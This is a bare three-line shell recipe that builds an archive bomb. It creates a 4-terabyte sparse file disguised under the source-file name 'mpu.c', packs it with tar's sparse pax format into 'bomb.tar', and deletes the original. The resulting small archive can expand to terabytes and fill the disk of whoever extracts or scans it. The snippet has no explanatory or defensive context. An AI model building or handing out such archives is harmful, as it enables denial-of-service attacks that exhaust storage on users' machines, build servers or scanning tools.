truncate -s 4T mpu.c
tar --format=pax --sparse -cf bomb.tar mpu.c
rm mpu.c
